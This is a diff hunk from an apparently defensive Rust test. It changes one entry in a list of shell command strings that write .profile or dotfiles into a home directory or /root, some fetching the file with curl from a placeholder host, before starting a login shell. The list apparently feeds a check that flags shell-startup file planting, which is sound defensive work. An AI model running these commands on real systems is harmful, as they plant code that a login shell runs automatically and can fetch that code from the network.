@@ -42,7 +42,7 @@ fn a_shell_does_not_start_with_a_file_of_the_line() {
             "install -m 644 f ~/.profile; bash -lc true",
             "rsync f ~/.profile; bash -lc true",
             "cp -r dotfiles/. ~; bash -lc true",
-            "rsync -a dotfiles/ ~/; bash -lc true",
+            "rsync -r dotfiles/ /root/; bash -lc true",
             "tar xf x.tar -C ~; bash -lc true",
             "curl -so ~/.profile u; sh -lc true",
             "cd ~; curl -O https://h/.profile; sh -lc true",
